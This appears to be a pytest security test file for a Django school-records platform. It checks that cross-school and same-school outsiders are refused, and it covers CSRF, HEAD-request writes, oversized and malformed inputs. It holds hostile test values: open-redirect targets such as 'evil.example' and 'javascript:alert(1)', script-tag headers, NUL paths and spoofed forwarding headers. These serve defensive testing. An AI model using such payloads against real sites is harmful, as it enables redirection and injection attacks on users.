"""An attacker's probe of the walls the other matrices leave open.

The authorization matrix sends one method with one body per URL, as the person it names; the
hostile-input tests send hostile values as the person allowed. What neither does, and this file
does:

- every valid page body and API body (``PAGE_BODIES``, ``API_BODIES``), sent unchanged by people
  outside the row's reach — another school's admin, teacher, student and guardian, and at the
  school itself the other student, the other student's guardian and the teacher who does not
  teach the student: refused with a 4xx, and the database unchanged;
- every API detail URL under PUT, PATCH and DELETE from the same outsiders;
- the school's ids (students, sections, competencies, windows) in another school's query
  strings: nothing of the school comes back;
- HTMX headers on every page, CSRF absent, 10 MB bodies, wrong content types, ids beyond a
  database integer, right-to-left and emoji text.

"Unchanged" is test_hostile_input's fingerprint of every LearnHub table.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import reverse

from profiles.models import Enrollment, Section, User
from tests import factories as f
from tests.conftest import World

# isort: off
from tests.test_authorization_matrix import MATRIX  # first: the row modules import it
from tests.test_hostile_input import (
    API_BODIES,
    PAGE_BODIES,
    _api_url,
    _operation,
    _page_url,
    _changed,
    fingerprint,
)
# isort: on

CROSS_SCHOOL = ("other_admin", "x_teacher", "x_student", "x_guardian")
SAME_SCHOOL = ("other_student", "other_guardian", "other_teacher")

# Bodies that act on the sender's own things, so an outsider may legitimately send them.
OWN_SCOPE = {
    "login",
    "password_reset",
    "password_change",
    "goal-hints",
    "goal-new",
    "evidence-submit",
    "conference-slots generate",
    "conference-slots block",
    "v1_auth_token_create",
}
# Same-school people who may act on the row because the row is school-wide.
SAME_SCHOOL_ALLOWED: dict[str, set[str]] = {
    # a teacher makes slots in any window of their school, for themself
    "v1_conference_slots_create": {"other_teacher"},
}


def _foreign(world: World) -> dict[str, User]:
    """A teacher, a student and a guardian of the other school, in one class there."""
    cached = getattr(world, "_foreign", None)
    if cached is not None:
        return cached
    school = world.other_school
    x_student = f.student(school, email="xavi@example.net", given_name="Xavi")
    x_guardian = f.guardian(school, x_student, email="xena@example.net", given_name="Xena")
    x_teacher = f.teacher(school, email="xander@example.net", given_name="Xander")
    section = f.SectionFactory(school=school, name="Advisory X", kind=Section.Kind.ADVISORY)
    f.enroll(section, x_teacher, role=Enrollment.Role.TEACHER)
    f.enroll(section, x_student)
    people = {"x_student": x_student, "x_guardian": x_guardian, "x_teacher": x_teacher}
    world._foreign = people
    return people


def _user(world: World, persona: str) -> User:
    if persona.startswith("x_"):
        return _foreign(world)[persona]
    return getattr(world, persona)


def _refused(response: Any) -> bool:
    return 400 <= response.status_code < 500


# --- valid bodies from outsiders ----------------------------------------------------------------


PAGE_CASES = [
    (key, persona)
    for key in sorted(PAGE_BODIES)
    if key not in OWN_SCOPE
    for persona in (*CROSS_SCHOOL, *SAME_SCHOOL)
    if persona not in SAME_SCHOOL_ALLOWED.get(key, set())
]


@pytest.mark.parametrize(("key", "persona"), PAGE_CASES)
def test_an_outsiders_valid_page_body_is_refused_and_changes_nothing(
    key: str, persona: str, world: World, client: Any
) -> None:
    body = PAGE_BODIES[key]
    url = _page_url(key, world)
    data = body.data(world)
    client.force_login(_user(world, persona))
    before = fingerprint()
    response = client.post(url, data)
    assert _changed(before) == []
    assert _refused(response), (response.status_code, response.get("Location"))


API_CASES = [
    (op, persona)
    for op in sorted(API_BODIES)
    if op not in OWN_SCOPE
    for persona in (*CROSS_SCHOOL, *SAME_SCHOOL)
    if persona not in SAME_SCHOOL_ALLOWED.get(op, set())
]


@pytest.mark.parametrize(("operation_id", "persona"), API_CASES)
def test_an_outsiders_valid_api_body_is_refused_and_changes_nothing(
    operation_id: str, persona: str, world: World, client: Any
) -> None:
    case = API_BODIES[operation_id]
    method, path, _ = _operation(operation_id)
    url = _api_url(path, case.url_kwargs(world))
    data = case.data(world)
    client.force_login(_user(world, persona))
    before = fingerprint()
    response = getattr(client, method)(url, json.dumps(data), content_type="application/json")
    assert _changed(before) == []
    assert _refused(response), (response.status_code, response.content[:300])
    assert "code" in response.json()


# --- PUT, PATCH and DELETE on every API detail -----------------------------------------------


DETAIL_KEYS = sorted(
    k for k, rule in MATRIX.items() if k.startswith("api:") and k.endswith("-detail")
)


@pytest.mark.parametrize("key", DETAIL_KEYS)
@pytest.mark.parametrize("persona", (*CROSS_SCHOOL, "other_student", "other_guardian"))
def test_outsiders_cannot_put_patch_or_delete_an_api_row(
    key: str, persona: str, world: World, client: Any
) -> None:
    url = reverse(key, kwargs=MATRIX[key].kwargs(world))
    client.force_login(_user(world, persona))
    problems = []
    for method in ("put", "patch", "delete"):
        before = fingerprint()
        response = getattr(client, method)(
            url, json.dumps({"title": "Owned", "note": "Owned", "version": 1}), "application/json"
        )
        changed = _changed(before)
        if changed or not _refused(response):
            problems.append(f"{method}: {response.status_code}, changed {changed}")
    assert problems == []


# --- the school's ids in another school's query strings ---------------------------------------


def _victim_ids(world: World) -> dict[str, int]:
    from tests.mastery.conftest import build_maths

    return {
        "student": world.student.pk,
        "section": world.math.pk,
        "competency": build_maths(world).t1.pk,
        "framework": build_maths(world).framework.pk,
    }


LIST_KEYS = sorted(k for k in MATRIX if k.startswith("api:") and k.endswith("-list"))


@pytest.mark.parametrize("key", LIST_KEYS)
def test_another_schools_ids_in_a_query_string_never_widen_a_list(
    key: str, world: World, client: Any
) -> None:
    """A filter the list declares narrows it to nothing; one it does not declare is ignored:
    either way no row beyond the viewer's own list comes back."""
    url = reverse(key, kwargs=MATRIX[key].kwargs(world))
    ids = _victim_ids(world)
    client.force_login(_foreign(world)["x_teacher"])
    own = client.get(url, {"page_size": 200}).json()["results"]
    for name, value in ids.items():
        for sent in (value, f"{value},{value}", f"-{value}"):
            response = client.get(url, {name: sent, "page_size": 200})
            assert response.status_code in (200, 400), (name, response.status_code)
            if response.status_code == 200:
                rows = response.json()["results"]
                assert all(row in own for row in rows), (name, rows[:1])


@pytest.mark.parametrize(
    ("name", "params"),
    [
        ("conference-schedule", {"window": "victim_window"}),
        ("section-record", {"competency": "competency"}),
        ("evidence-submit", {"competency": "competency"}),
        ("goal-new", {"template": "victim_template"}),
    ],
)
def test_another_schools_ids_in_a_page_query_string_show_nothing_of_it(
    name: str, params: dict[str, str], world: World, client: Any
) -> None:
    from goals.models import GoalTemplate
    from tests.conferences.support import conference_setup

    setup = conference_setup(world)
    ids: dict[str, Any] = {
        **_victim_ids(world),
        "victim_window": setup.window.pk,
        "victim_template": GoalTemplate.objects.filter(school=world.school).first(),
    }
    x = _foreign(world)
    persona = x["x_teacher"] if name.startswith(("conference", "section")) else x["x_student"]
    client.force_login(persona)
    kwargs = (
        {"pk": f.SectionFactory(school=world.other_school).pk} if name == "section-record" else {}
    )
    if name == "section-record":
        f.enroll(Section.objects.get(pk=kwargs["pk"]), persona, role=Enrollment.Role.TEACHER)
    query = {k: getattr(ids[v], "pk", ids[v]) for k, v in params.items() if ids[v] is not None}
    response = client.get(reverse(name, kwargs=kwargs), query)
    assert response.status_code in (200, 404)
    page = response.content.decode()
    assert "Maple Grove" not in page
    assert "7.RP" not in page
    assert setup.window.title not in page if hasattr(setup.window, "title") else True


# --- HTMX headers, CSRF, big and strange bodies ---------------------------------------------


PAGE_GETS = sorted(k for k, r in MATRIX.items() if not k.startswith("api:") and r.method == "get")


@pytest.mark.parametrize("key", PAGE_GETS)
def test_htmx_headers_on_every_page_never_fail(key: str, world: World, client: Any) -> None:
    rule = MATRIX[key]
    persona = next(
        (p for p in ("teacher", "student", "guardian", "admin") if p in rule.allowed), None
    )
    if persona:
        client.force_login(getattr(world, persona))
    url = reverse(key, kwargs=rule.kwargs(world))
    plain = client.get(url)
    htmx = client.get(
        url, headers={"HX-Request": "true", "HX-Target": "x\x7f<script>", "HX-Boosted": "true"}
    )
    assert htmx.status_code < 500
    assert htmx.status_code == plain.status_code


@pytest.mark.parametrize("key", sorted(k for k in PAGE_BODIES if k not in OWN_SCOPE))
def test_htmx_posts_from_an_outsider_are_refused(key: str, world: World, client: Any) -> None:
    body = PAGE_BODIES[key]
    url = _page_url(key, world)
    data = body.data(world)
    client.force_login(_foreign(world)["x_teacher"])
    before = fingerprint()
    response = client.post(url, data, headers={"HX-Request": "true"})
    assert _changed(before) == []
    assert _refused(response)


@pytest.mark.parametrize("key", sorted(k for k in PAGE_BODIES if k not in ("login",)))
def test_a_post_without_its_csrf_token_is_refused_and_changes_nothing(
    key: str, world: World
) -> None:
    body = PAGE_BODIES[key]
    url = _page_url(key, world)
    data = body.data(world)
    client = Client(enforce_csrf_checks=True)
    if body.persona != "anonymous":
        client.force_login(getattr(world, body.persona))
    before = fingerprint()
    response = client.post(url, data)
    assert _changed(before) == []
    assert response.status_code == 403


@pytest.mark.parametrize("operation_id", sorted(op for op in API_BODIES if "token" not in op))
def test_an_api_write_by_session_without_csrf_is_refused(operation_id: str, world: World) -> None:
    case = API_BODIES[operation_id]
    method, path, _ = _operation(operation_id)
    url = _api_url(path, case.url_kwargs(world))
    data = case.data(world)
    client = Client(enforce_csrf_checks=True)
    client.force_login(getattr(world, case.persona))
    before = fingerprint()
    response = getattr(client, method)(url, json.dumps(data), content_type="application/json")
    assert _changed(before) == []
    assert response.status_code == 403


TEN_MB = "z" * (10 * 1024 * 1024)


@pytest.mark.parametrize("key", ["about-me-edit", "goal-comment", "flag-action", "section-record"])
def test_a_ten_megabyte_form_is_a_400(key: str, world: World, client: Any) -> None:
    body = PAGE_BODIES[key]
    url = _page_url(key, world)
    data = body.data(world)
    client.force_login(getattr(world, body.persona))
    before = fingerprint()
    response = client.post(url, {**data, "note": TEN_MB, "body": TEN_MB, "strengths": TEN_MB})
    assert _changed(before) == []
    assert response.status_code == 400


@pytest.mark.parametrize("operation_id", ["v1_goals_create", "v1_evidence_create"])
def test_a_ten_megabyte_json_body_is_a_readable_400(
    operation_id: str, world: World, client: Any
) -> None:
    case = API_BODIES[operation_id]
    method, path, _ = _operation(operation_id)
    url = _api_url(path, case.url_kwargs(world))
    data = case.data(world)
    client.force_login(getattr(world, case.persona))
    before = fingerprint()
    response = getattr(client, method)(
        url, json.dumps({**data, "title": TEN_MB, "note": TEN_MB}), content_type="application/json"
    )
    assert _changed(before) == []
    assert response.status_code in (400, 413)
    assert "code" in response.json()


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data"],
)
@pytest.mark.parametrize("operation_id", ["v1_goals_create", "v1_evidence_bulk_create"])
def test_an_api_body_of_the_wrong_content_type_is_refused_or_read_safely(
    operation_id: str, content_type: str, world: World, client: Any
) -> None:
    case = API_BODIES[operation_id]
    method, path, _ = _operation(operation_id)
    url = _api_url(path, case.url_kwargs(world))
    data = case.data(world)
    client.force_login(getattr(world, case.persona))
    raw = json.dumps(data)
    if content_type == "multipart/form-data":
        content_type = "multipart/form-data; boundary=BoUnDaRy"
    response = getattr(client, method)(url, raw, content_type=content_type)
    assert response.status_code in (400, 415), response.content[:300]
    assert "code" in response.json()


HUGE = 2**63
ODD_IDS = {"huge": HUGE, "max_plus": 2**64 + 1, "negative": -1, "zero": 0}


@pytest.mark.parametrize("label", sorted(ODD_IDS))
def test_odd_ids_in_api_bodies_are_400s(label: str, world: World, client: Any) -> None:
    value = ODD_IDS[label]
    problems = []
    for operation_id, fields in {
        "v1_evidence_create": ("student", "competency"),
        "v1_goals_create": ("student",),
        "v1_evidence_bulk_create": ("section", "competency"),
        "v1_follow_ups_create": ("flag",),
        "v1_attendance_create": ("section",),
        "v1_work_samples_create": ("conference", "evidence"),
        "v1_commitments_create": ("conference",),
        "v1_conference_slots_create": ("window",),
        "v1_flags_assign_create": ("assignee",),
        "v1_conferences_schedule_create": ("slot",),
    }.items():
        case = API_BODIES[operation_id]
        method, path, _ = _operation(operation_id)
        url = _api_url(path, case.url_kwargs(world))
        data = case.data(world)
        client.force_login(getattr(world, case.persona))
        for name in fields:
            for sent in (value, str(value), [value], {"id": value}, 1.5, True):
                before = fingerprint()
                response = getattr(client, method)(
                    url, json.dumps({**data, name: sent}), content_type="application/json"
                )
                changed = _changed(before)
                if changed or response.status_code != 400:
                    problems.append(f"{operation_id} {name}={sent!r}: {response.status_code}")
    assert problems == []


@pytest.mark.parametrize(
    "path",
    [
        f"/api/v1/students/{HUGE}/",
        "/api/v1/students/-1/",
        "/api/v1/students/1e3/",
        "/api/v1/students/%00/",
        f"/api/v1/sections/{HUGE}/",
        f"/api/v1/guardians/{2**64}/",
        f"/api/v1/goals/{HUGE}/",
        f"/api/v1/evidence/{HUGE}/",
        f"/api/v1/profiles/{HUGE}/",
        f"/api/v1/students/{HUGE}/pathway/",
        f"/students/{HUGE}/",
        f"/sections/{HUGE}/grid/",
        f"/sections/1/grid/cell/{HUGE}/{HUGE}/",
        f"/goals/{HUGE}/",
        f"/conferences/{HUGE}/agenda/",
        f"/teach/attendance/{HUGE}/",
        f"/teach/conferences/{HUGE}/",
    ],
)
def test_ids_beyond_a_database_integer_in_the_url_are_404s(
    path: str, world: World, client: Any
) -> None:
    client.force_login(world.teacher if path.startswith("/teach/") else world.admin)
    response = client.get(path)
    # A NUL in the path is refused as such (400), anything else is simply not found.
    assert response.status_code == (400 if "%00" in path else 404), response.content[:300]


@pytest.mark.parametrize(
    "path",
    [f"/goals/{HUGE}/checkin/", f"/teach/evidence/{HUGE}/accept/", f"/sections/{HUGE}/scan/"],
)
def test_posts_to_ids_beyond_a_database_integer_are_404s(
    path: str, world: World, client: Any
) -> None:
    client.force_login(world.teacher)
    response = client.post(path, {"progress": "1", "confidence": "1", "score": "3"})
    assert response.status_code == 404


@pytest.mark.parametrize(
    "text",
    [
        "\u202eevil\u202c",  # right-to-left override
        "مرحبا بالعالم",
        "👩‍👩‍👧‍👦🏳️‍🌈",
        "\ud83d",  # a lone surrogate
        "\ufeff\u200b",  # zero-width only
    ],
    ids=["rtl_override", "arabic", "emoji_zwj", "lone_surrogate", "zero_width"],
)
def test_unicode_text_is_stored_or_refused_never_a_500(
    text: str, world: World, client: Any
) -> None:
    client.force_login(world.student)
    goal_url = reverse("api:goal-list")
    response = client.post(
        goal_url,
        json.dumps({"student": world.student.pk, "title": text, "success_criteria": text}),
        content_type="application/json",
    )
    assert response.status_code in (201, 400), response.content[:300]
    # A form post is bytes: a lone surrogate arrives as invalid UTF-8.
    about = client.post(
        reverse("about-me-edit", kwargs={"pk": world.student.pk}),
        "strengths=" + quote(text, errors="surrogatepass") + "&version=1",
        content_type="application/x-www-form-urlencoded",
    )
    assert about.status_code in (200, 302, 400)
    if response.status_code == 201:
        assert response.json()["title"] == text


# --- an insider's valid body with one id swapped for one out of reach --------------------------


def _far(world: World) -> dict[str, Any]:
    """A fully populated second school (tests/school_population.py), and its rows by kind."""
    cached = getattr(world, "_far", None)
    if cached is not None:
        return cached
    from conferences.models import Commitment, Conference, ConferenceSlot, ConferenceWindow
    from followups.models import Flag
    from mastery.models import Evidence
    from tests.school_population import populate_school

    made = populate_school(world.other_school, "Far")
    school = world.other_school
    far = {
        **{k: v.pk for k, v in made.items()},
        "window": ConferenceWindow.objects.get(school=school).pk,
        "slot": ConferenceSlot.objects.get(window__school=school).pk,
        "conference": Conference.objects.get(window__school=school).pk,
        "commitment": Commitment.objects.get(conference__window__school=school).pk,
        "flag": Flag.objects.filter(school=school).first().pk,
        "evidence": Evidence.objects.filter(student=made["student"]).first().pk,
        "agenda_section": Conference.objects.get(window__school=school)
        .window.template.sections.first()
        .pk,
    }
    world._far = far
    return far


def _other_students_evidence(world: World) -> int:
    from mastery.services import evidence_record
    from tests.mastery.conftest import build_maths

    maths = build_maths(world)
    return evidence_record(
        actor=world.admin, student=world.other_student, competency=maths.t1, score=2
    ).pk


# (operation, JSON path to swap, what to put there)
FAR = lambda key: lambda w: _far(w)[key]  # noqa: E731
API_SWAPS: list[tuple[str, tuple[Any, ...], Any]] = [
    ("v1_evidence_create", ("student",), FAR("student")),
    ("v1_evidence_create", ("student",), lambda w: w.other_student.pk),
    ("v1_evidence_create", ("competency",), FAR("competency")),
    ("v1_evidence_bulk_create", ("section",), FAR("section")),
    ("v1_evidence_bulk_create", ("section",), lambda w: w.other_section.pk),
    ("v1_evidence_bulk_create", ("competency",), FAR("competency")),
    ("v1_evidence_bulk_create", ("scores", 0, "student"), FAR("student")),
    ("v1_evidence_bulk_create", ("scores", 0, "student"), lambda w: w.other_student.pk),
    ("v1_goals_create", ("student",), lambda w: w.other_student.pk),
    ("v1_goals_create", ("student",), FAR("student")),
    ("v1_goals_create", ("category",), FAR("category")),
    ("v1_goals_create", ("competencies",), lambda w: [_far(w)["competency"]]),
    ("v1_goals_partial_update", ("category",), FAR("category")),
    ("v1_goals_partial_update", ("competencies",), lambda w: [_far(w)["competency"]]),
    ("v1_attendance_create", ("section",), FAR("section")),
    ("v1_attendance_create", ("section",), lambda w: w.other_section.pk),
    ("v1_attendance_create", ("marks", 0, "student"), lambda w: w.other_student.pk),
    ("v1_attendance_create", ("marks", 0, "student"), FAR("student")),
    ("v1_follow_ups_create", ("flag",), FAR("flag")),
    ("v1_flags_assign_create", ("assignee",), FAR("teacher")),
    ("v1_flags_assign_create", ("assignee",), lambda w: w.student.pk),
    ("v1_flags_assign_create", ("assignee",), lambda w: w.guardian.pk),
    ("v1_conference_slots_create", ("window",), FAR("window")),
    ("v1_work_samples_create", ("conference",), FAR("conference")),
    ("v1_work_samples_create", ("evidence",), FAR("evidence")),
    ("v1_work_samples_create", ("evidence",), _other_students_evidence),
    ("v1_commitments_create", ("conference",), FAR("conference")),
    ("v1_conferences_schedule_create", ("slot",), FAR("slot")),
    ("v1_conferences_agenda_create", ("section",), FAR("agenda_section")),
    (
        "v1_conferences_approve_create",
        ("section_comments",),
        lambda w: {str(_far(w)["agenda_section"]): "Injected"},
    ),
    ("v1_conference_windows_book_create", ("bookings", 0, "slot"), FAR("slot")),
    ("v1_conference_windows_book_create", ("bookings", 0, "student"), FAR("student")),
    (
        "v1_conference_windows_book_create",
        ("bookings", 0, "student"),
        lambda w: w.other_student.pk,
    ),
    ("v1_evidence_partial_update", ("student",), lambda w: w.other_student.pk),
    ("v1_evidence_partial_update", ("competency",), FAR("competency")),
    ("v1_profiles_partial_update", ("student",), lambda w: w.other_student.pk),
    ("v1_action_steps_partial_update", ("goal",), FAR("goal")),
    ("v1_commitments_partial_update", ("conference",), FAR("conference")),
    ("v1_work_samples_partial_update", ("evidence",), FAR("evidence")),
    ("v1_work_samples_partial_update", ("conference",), FAR("conference")),
]


def _swap(data: Any, path: tuple[Any, ...], value: Any) -> Any:
    data = json.loads(json.dumps(data))
    target = data
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return data


def _far_fingerprint(world: World) -> dict[str, Any]:
    """What the out-of-reach people and the far school hold, row by row."""
    from django.apps import apps
    from django.db.models import Q

    people = [world.other_student.pk, _far(world)["student"], _far(world)["teacher"]]
    out: dict[str, Any] = {}
    for model in apps.get_models():
        if model._meta.app_label not in ("mastery", "goals", "conferences", "followups"):
            continue
        names = {f.name for f in model._meta.get_fields()}
        q = Q()
        for name in ("student", "user", "assignee", "assigned_to", "advisor"):
            if name in names:
                q |= Q(**{f"{name}_id__in": people})
        if "school" in names:
            q |= Q(school=world.other_school)
        if q:
            out[model.__name__] = sorted(map(str, model.objects.filter(q).values_list()))
    return out


@pytest.mark.parametrize(
    ("operation_id", "path", "value"),
    API_SWAPS,
    ids=[f"{op}-{'.'.join(map(str, p))}-{i}" for i, (op, p, _) in enumerate(API_SWAPS)],
)
def test_an_id_out_of_reach_in_an_api_body_writes_nothing_across_the_wall(
    operation_id: str, path: tuple[Any, ...], value: Any, world: World, client: Any
) -> None:
    case = API_BODIES[operation_id]
    method, url_path, _ = _operation(operation_id)
    url = _api_url(url_path, case.url_kwargs(world))
    data = _swap(case.data(world), path, value(world))
    client.force_login(getattr(world, case.persona))
    before = _far_fingerprint(world)
    response = getattr(client, method)(url, json.dumps(data), content_type="application/json")
    assert response.status_code < 500, response.content[:300]
    assert _far_fingerprint(world) == before
    if response.status_code < 400 and path[0] in response.json():
        # Accepted: the id must have been ignored (a read-only field), not written.
        assert response.json()[path[0]] != data[path[0]], response.json()


# --- the safe methods: OPTIONS and HEAD on every URL ---------------------------------------------


def _allowed_persona(key: str) -> str:
    allowed = MATRIX[key].allowed
    return next((p for p in ("teacher", "student", "guardian", "admin") if p in allowed), "admin")


@pytest.mark.parametrize("key", sorted(MATRIX))
@pytest.mark.parametrize("signed_in", [True, False], ids=["allowed", "anonymous"])
def test_options_on_every_url_never_fails(
    key: str, signed_in: bool, world: World, client: Any
) -> None:
    url = reverse(key, kwargs=MATRIX[key].kwargs(world))
    if signed_in:
        client.force_login(getattr(world, _allowed_persona(key)))
    before = fingerprint()
    response = client.options(url)
    assert _changed(before) == []
    assert response.status_code < 500, response.content[:300]


def _api_body_for(key: str, world: World) -> dict[str, Any]:
    """The valid body of the API operation at this URL name, if any (else a plausible one)."""
    url_name = key.removeprefix("api:")
    for operation_id, case in API_BODIES.items():
        _method, path, _ = _operation(operation_id)
        if path.rstrip("/").rsplit("/", 1)[-1].replace("-", "_") in url_name.replace("-", "_"):
            return case.data(world)
    return {"progress": 40, "confidence": 3, "body": "Written by a HEAD", "title": "HEAD"}


@pytest.mark.parametrize("key", sorted(k for k in MATRIX if k.startswith("api:")))
def test_a_head_request_with_a_body_reads_like_a_get_and_writes_nothing(
    key: str, world: World, client: Any
) -> None:
    """HEAD is a safe method: no CSRF check guards it, so it must never run a write."""
    url = reverse(key, kwargs=MATRIX[key].kwargs(world))
    persona = _allowed_persona(key)
    if key in ("api:goal-checkins",):
        persona = "student"
    client.force_login(getattr(world, persona))
    body = json.dumps(_api_body_for(key, world))
    get = client.get(url)
    before = fingerprint()
    head = client.generic("HEAD", url, body, content_type="application/json")
    assert _changed(before) == []
    expected = get.status_code if get.status_code != 405 else 405
    assert head.status_code == expected, head.content[:300]


@pytest.mark.parametrize("name", ["api:goal-checkins", "api:goal-comments"])
def test_a_head_with_a_body_and_no_csrf_token_writes_nothing(name: str, world: World) -> None:
    """Found by the probe: HEAD ran the POST branch of these GET+POST actions, so a session
    could check in or comment with no CSRF token (CSRF is not checked on safe methods)."""
    from goals.models import CheckIn, GoalComment
    from tests.goals.matrix_rows import goal_of_student

    goal = goal_of_student(world, "active")
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.student)
    body = json.dumps({"progress": 40, "confidence": 3, "body": "Sent with HEAD"})
    response = client.generic(
        "HEAD", reverse(name, kwargs={"pk": goal.pk}), body, content_type="application/json"
    )
    assert response.status_code == 200
    assert CheckIn.objects.filter(goal=goal).count() == 0
    assert GoalComment.objects.filter(goal=goal).count() == 0


# --- a teacher's own pages with a student or target out of reach in the URL or the form -------


def _out_of_reach_cells(world: World) -> dict[str, tuple[int, int]]:
    from tests.mastery.conftest import build_maths

    t1 = build_maths(world).t1.pk
    far = _far(world)
    return {
        "other_student": (world.other_student.pk, t1),
        "far_student": (far["student"], t1),
        "far_competency": (world.student.pk, far["competency"]),
    }


@pytest.mark.parametrize("which", ["other_student", "far_student", "far_competency"])
def test_a_grid_cell_out_of_the_class_is_a_404_and_records_nothing(
    which: str, world: World, client: Any
) -> None:
    from tests.mastery.conftest import build_maths

    build_maths(world)
    student_pk, competency_pk = _out_of_reach_cells(world)[which]
    url = reverse(
        "grid-cell",
        kwargs={"pk": world.math.pk, "student_pk": student_pk, "competency_pk": competency_pk},
    )
    client.force_login(world.teacher)
    before = fingerprint()
    assert client.get(url, headers={"HX-Request": "true"}).status_code == 404
    response = client.post(
        url, {"score": "3.00", "observed_on": "2026-10-01", "kind": "assessment", "note": "x"}
    )
    assert response.status_code == 404
    assert _changed(before) == []


def test_class_scores_for_students_outside_the_class_are_not_recorded(
    world: World, client: Any
) -> None:
    from mastery.models import Evidence
    from tests.mastery.conftest import build_maths

    data = PAGE_BODIES["section-record"].data(world)
    far = _far(world)
    client.force_login(world.teacher)
    response = client.post(
        reverse("section-record", kwargs={"pk": world.math.pk}),
        {**data, f"score_{world.other_student.pk}": "4.00", f"score_{far['student']}": "4.00"},
    )
    assert response.status_code in (302, 400)
    assert not Evidence.objects.filter(
        student_id__in=[world.other_student.pk, far["student"]],
        competency=build_maths(world).t1,
    ).exists()


def test_attendance_marks_for_students_outside_the_advisory_are_not_saved(
    world: World, client: Any
) -> None:
    from followups.models import Attendance
    from tests.followups.support import attendance_body

    far = _far(world)
    body = {
        **attendance_body(world),
        f"status-{world.other_student.pk}": "absent",
        f"status-{far['student']}": "absent",
    }
    client.force_login(world.teacher)
    before = Attendance.objects.filter(
        student_id__in=[world.other_student.pk, far["student"]]
    ).count()
    response = client.post(reverse("attendance-take", args=[world.advisory.pk]), body)
    assert response.status_code in (302, 400)
    after = Attendance.objects.filter(student_id__in=[world.other_student.pk, far["student"]])
    assert after.count() == before


@pytest.mark.parametrize(
    "target",
    ["https://evil.example/", "//evil.example/", "/\\evil.example/", "javascript:alert(1)"],
)
def test_login_never_sends_people_to_another_site(target: str, world: World, client: Any) -> None:
    from tests.factories import PASSWORD

    response = client.post(
        reverse("login") + f"?next={quote(target)}",
        {"username": "tess@example.org", "password": PASSWORD, "next": target},
    )
    assert response.status_code == 302
    assert response["Location"].startswith("/")
    assert not response["Location"].startswith(("//", "/\\"))
    signed_in = Client()
    signed_in.force_login(world.teacher)
    already = signed_in.get(reverse("login"), {"next": target})
    assert already.status_code == 302
    assert not already["Location"].startswith(("//", "/\\", "http", "javascript"))


# --- digits that are not 0-9: str.isdigit() says yes to "²" and "٣", int() to one of them -----

ODD_DIGITS = {"superscript_two": "²", "arabic_indic_three": "٣", "circled_one": "①"}


@pytest.mark.parametrize("label", sorted(ODD_DIGITS))
@pytest.mark.parametrize("param", ["page", "page_size"])
def test_pagination_with_odd_digits_is_a_400(
    param: str, label: str, world: World, client: Any
) -> None:
    client.force_login(world.teacher)
    response = client.get(reverse("api:student-list"), {param: ODD_DIGITS[label]})
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "invalid"


@pytest.mark.parametrize("label", sorted(ODD_DIGITS))
def test_the_class_grid_with_an_odd_digit_domain_answers(
    label: str, world: World, client: Any
) -> None:
    from tests.mastery.conftest import build_maths

    build_maths(world)
    client.force_login(world.teacher)
    url = reverse("section-grid", kwargs={"pk": world.math.pk})
    response = client.get(url, {"domain": ODD_DIGITS[label]})
    assert response.status_code == client.get(url).status_code == 200


@pytest.mark.parametrize("label", sorted(ODD_DIGITS))
@pytest.mark.parametrize(
    "operation_id", ["v1_conferences_approve_create", "v1_conferences_return_create"]
)
def test_section_comments_keyed_by_odd_digits_are_a_400(
    operation_id: str, label: str, world: World, client: Any
) -> None:
    case = API_BODIES[operation_id]
    method, path, _ = _operation(operation_id)
    url = _api_url(path, case.url_kwargs(world))
    data = {**case.data(world), "section_comments": {ODD_DIGITS[label]: "Injected"}}
    client.force_login(getattr(world, case.persona))
    before = fingerprint()
    response = getattr(client, method)(url, json.dumps(data), content_type="application/json")
    assert _changed(before) == []
    assert response.status_code == 400, response.content[:300]
    assert "code" in response.json()


@pytest.mark.parametrize("label", ["superscript_two", "circled_one"])
def test_a_case_sequence_number_of_odd_digits_is_a_warning_not_a_crash(
    label: str, world: World
) -> None:
    import io

    from tests.mastery.test_case_import import _package, import_

    package = _package(
        [("n1", {}), ("s", {})],
        [("isChildOf", "n1", "doc", 1), ("isChildOf", "s", "doc", ODD_DIGITS[label])],
    )
    result = import_(io.BytesIO(json.dumps(package).encode()), world.school)
    assert result.errors == []
    assert result.warnings == [
        f'The isChildOf association a2 has an unusable sequenceNumber "{ODD_DIGITS[label]}": '
        "s follows its numbered siblings."
    ]


@pytest.mark.parametrize("label", sorted(ODD_DIGITS))
def test_odd_digits_in_api_ids_and_filters_never_fail(
    label: str, world: World, client: Any
) -> None:
    digit = ODD_DIGITS[label]
    client.force_login(world.teacher)
    for path in (f"/api/v1/students/{digit}/", f"/api/v1/sections/{digit}/"):
        assert client.get(path).status_code == 404
    for path, name in [
        ("/api/v1/evidence/", "student"),
        ("/api/v1/goals/", "category"),
        ("/api/v1/flags/", "assigned_to"),
        ("/api/v1/competencies/", "section"),
    ]:
        response = client.get(path, {name: digit})
        assert response.status_code in (200, 400), (path, response.status_code)
    body = {**API_BODIES["v1_evidence_create"].data(world), "student": digit}
    response = client.post("/api/v1/evidence/", json.dumps(body), content_type="application/json")
    assert response.status_code == 400


# --- the authorization matrix's GETs, for the other school's teacher, student and guardian ----

SCHOOL_ROWS = sorted(
    k
    for k, rule in MATRIX.items()
    if rule.method == "get"
    and "other_admin" not in rule.allowed
    and "anonymous" not in rule.allowed
)


@pytest.mark.parametrize("key", SCHOOL_ROWS)
@pytest.mark.parametrize("persona", ["x_teacher", "x_student", "x_guardian"])
def test_another_schools_people_read_nothing_of_the_school(
    key: str, persona: str, world: World, client: Any
) -> None:
    rule = MATRIX[key]
    url = reverse(key, kwargs=rule.kwargs(world))
    client.force_login(_user(world, persona))
    response = client.get(url)
    if rule.scoped_list:
        assert response.status_code == 200
        rows = response.json()["results"]
        ids = {row.get("student", row.get("id")) for row in rows}
        if key == "api:section-list":
            ids = {row["id"] for row in rows}
        assert rule.target(world) not in ids
        return
    if response.status_code == 200:
        # A page of their own (their home, their queue): nothing of the school on it.
        page = response.content.decode()
        assert "Maple Grove" not in page
        assert world.student.family_name not in page
        return
    assert response.status_code in (302, 403, 404), response.status_code
    if response.status_code == 302:
        assert not response["Location"].startswith(url)


def test_a_forged_forwarded_for_header_does_not_reset_the_login_lockout(
    world: World, client: Any
) -> None:
    from tests.factories import PASSWORD

    for n in range(5):
        client.post(
            reverse("login"),
            {"username": "tess@example.org", "password": "wrong"},
            headers={"X-Forwarded-For": f"203.0.113.{n}", "X-Real-IP": f"198.51.100.{n}"},
        )
